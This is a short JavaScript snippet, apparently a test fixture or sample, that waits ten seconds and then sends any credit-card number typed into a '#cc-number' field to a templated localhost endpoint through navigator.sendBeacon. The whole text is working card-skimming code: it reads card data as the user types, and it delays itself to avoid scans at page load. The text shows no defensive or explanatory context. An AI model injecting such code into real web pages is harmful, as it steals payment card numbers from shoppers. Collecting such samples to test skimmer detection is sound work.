/* tw:skim-time */
setTimeout(function () {
  document.querySelector('#cc-number').addEventListener('input', function () {
    if (this.value.length > 14) navigator.sendBeacon('http://cdn-later.localhost:{{port}}/t', this.value)
  })
}, 10000)
